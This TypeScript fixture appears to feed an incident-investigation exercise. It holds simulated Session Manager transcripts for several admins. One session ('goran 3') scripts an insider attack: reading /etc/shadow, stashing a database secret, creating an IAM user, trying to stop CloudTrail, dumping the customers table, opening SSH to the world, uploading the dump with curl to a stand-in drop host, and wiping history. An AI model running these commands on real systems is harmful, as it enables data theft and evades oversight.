// The output of each privileged session: the command that was typed, the seconds since its beginning, and the
// result. Session Manager logs the terminal's output, so a command appears as the terminal echoed it.

export interface Step {
  // Seconds since the session began.
  after: number
  typed: string
  shown: string[]
}

const shell = (after: number, typed: string, ...shown: string[]): Step => ({ after, typed, shown })

// By the person and the day of the session, as in sessions.ts. Bruno's last session shows nothing, and a
// forwarded port is never logged.
export const TRANSCRIPTS: Record<string, Step[]> = {
  'emil 0': [
    shell(
      9,
      'sudo systemctl status nginx --no-pager',
      '● nginx.service - A high performance web server',
      '     Active: \u001b[1;32mactive (running)\u001b[0m since Mon 2026-01-05 03:11:02 UTC; 6h ago',
    ),
    shell(
      70,
      'df -h /',
      'Filesystem      Size  Used Avail Use% Mounted on',
      '/dev/nvme0n1p1   30G   27G  3.1G  90% /',
    ),
    shell(
      160,
      'sudo journalctl --vacuum-size=500M',
      'Vacuuming done, freed 4.1G of archived journals from /var/log/journal.',
    ),
    shell(
      640,
      'df -h /',
      'Filesystem      Size  Used Avail Use% Mounted on',
      '/dev/nvme0n1p1   30G   23G  7.2G  77% /',
    ),
    shell(1060, 'exit', 'exit'),
  ],
  'bruno 0': [
    shell(
      12,
      'sudo dnf check-update amazon-ssm-agent',
      'amazon-ssm-agent.x86_64    3.3.3050.0-1    amazonlinux',
    ),
    shell(
      90,
      'sudo dnf -y upgrade amazon-ssm-agent',
      'Upgraded:',
      '  amazon-ssm-agent-3.3.3050.0-1.amzn2023.x86_64',
      'Complete!',
    ),
    shell(330, 'exit', 'exit'),
  ],
  'jonas 1': [
    shell(
      8,
      'cd /opt/orders && tail -3 logs/worker.log',
      '2026-01-06 21:41:07 WARN  limit of 40 open orders reached',
      '2026-01-06 21:44:19 ERROR order 48213 parked',
      '2026-01-06 21:50:55 ERROR order 48217 parked',
    ),
    shell(
      919,
      'aws secretsmanager get-secret-value --secret-id orders/database --query SecretString --output text',
      '{"username":"orders","password":"********"}',
    ),
    shell(
      1010,
      "psql -h orders-db.example.internal -U orders -c 'select id, state from orders where state = 1 limit 3'",
      'Password for user orders: ',
      '  id   | state',
      '-------+-------',
      ' 48213 |     1',
      ' 48217 |     1',
      '(2 rows)',
    ),
    shell(
      1227,
      'aws ssm put-parameter --name /orders/limits --type String --value 80 --overwrite',
      '{',
      '    "Version": 7,',
      '    "Tier": "Standard"',
      '}',
    ),
    shell(1534, 'aws ec2 reboot-instances --instance-ids $(cat /opt/orders/instance-id)', ''),
  ],
  'emil 2': [
    shell(15, 'curl -s -o /dev/null -w "%{http_code}\\n" localhost:8080/health', '200'),
    shell(
      140,
      'sudo tail -2 /var/log/nginx/error.log',
      '2026/01/07 09:58:31 [error] 812#812: upstream timed out',
      '2026/01/07 10:01:12 [error] 812#812: upstream timed out',
    ),
    shell(500, 'exit', 'exit'),
  ],
  'kofi 2': [
    shell(20, 'curl -s https://runtime.sagemaker.us-east-1.amazonaws.com/ping', '{"status":"healthy"}'),
    shell(
      300,
      'nslookup orders-db.example.internal',
      'Name:\torders-db.example.internal',
      'Address: 192.0.2.61',
    ),
    shell(1400, 'exit', 'exit'),
  ],
  'goran 3': [
    shell(11, 'whoami; id', 'ssm-user', 'uid=1001(ssm-user) gid=1001(ssm-user) groups=1001(ssm-user)'),
    shell(
      38,
      'sudo cat /etc/shaod\b\b\b\u001b[Kadow | head -2',
      'root:*LOCK*:14600::::::',
      'ec2-user:!!:19000:0:99999:7:::',
    ),
    shell(252, 'aws secretsmanager get-secret-value --secret-id orders/database --output text > /tmp/.s', ''),
    shell(
      761,
      'aws iam create-user --user-name support-temp',
      '{',
      '    "User": {',
      '        "UserName": "support-temp"',
      '    }',
      '}',
    ),
    shell(
      1016,
      'aws iam create-access-key --user-name support-temp',
      '',
      'An error occurred (AccessDenied) when calling the CreateAccessKey operation: not authorized',
    ),
    shell(
      1271,
      'aws cloudtrail stop-logging --name organisation-trail',
      '',
      'An error occurred (AccessDenied) when calling the StopLogging operation: not authorized',
    ),
    shell(
      1330,
      'pg_dump -h orders-db.example.internal -U orders -t customers | gzip > /tmp/c.gz',
      'Password: ',
    ),
    shell(
      1526,
      'aws ec2 authorize-security-group-ingress --group-id sg-0example0bastion0 --protocol tcp --port 22 --cidr 0.0.0.0/0',
      '',
    ),
    shell(1700, 'curl -s -F "f=@/tmp/c.gz" https://drop.example.net/u', '{"ok":true,"bytes":48213077}'),
    shell(1890, 'history -c && rm -f /tmp/.s /tmp/c.gz', ''),
  ],
  'break-glass 3': [
    shell(
      14,
      'last -5',
      'ssm-user pts/0                          Thu Jan  8 02:17 - 02:51  (00:34)',
      'wtmp begins Mon Jan  5 03:10:58 2026',
    ),
    shell(120, 'sudo ls -la /tmp', 'total 0', 'drwxrwxrwt.  8 root root 160 Jan  8 02:44 .'),
    shell(
      700,
      'sudo tar czf /var/tmp/evidence-20260108.tgz /var/log /home/ssm-user',
      "tar: Removing leading `/' from member names",
    ),
    shell(820, 'exit', 'exit'),
  ],
  'jonas 4': [
    shell(
      10,
      'top -b -n1 | head -4',
      'top - 17:30:58 up 4 days,  1 user,  load average: 0.31, 0.44, 0.40',
      'Tasks: 118 total,   1 running, 117 sleeping',
      '%Cpu(s):  2.3 us,  0.8 sy,  0.0 ni, 96.7 id',
      'MiB Mem :   3904.3 total,    812.1 free',
    ),
    shell(1200, 'exit', 'exit'),
  ],
}

// A session whose StartSession is in no log: only the log's own text names the person who opened it.
export const UNANNOUNCED: Step[] = [
  shell(6, 'sudo systemctl restart billing-export', ''),
  shell(95, 'systemctl is-active billing-export', 'active'),
  shell(240, 'exit', 'exit'),
]
